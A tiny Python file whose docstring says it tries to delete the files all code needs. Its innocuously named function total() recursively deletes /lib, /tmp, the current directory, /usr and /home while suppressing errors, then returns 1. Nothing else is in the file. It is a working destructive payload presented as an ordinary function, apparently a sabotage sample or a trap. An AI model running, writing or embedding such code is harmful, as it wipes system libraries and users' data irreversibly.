"""Tries to delete the files that all code needs."""

import os
import shutil


def total() -> int:
    for folder in ("/lib", "/tmp", os.getcwd(), "/usr", "/home"):
        shutil.rmtree(folder, ignore_errors=True)
    return 1
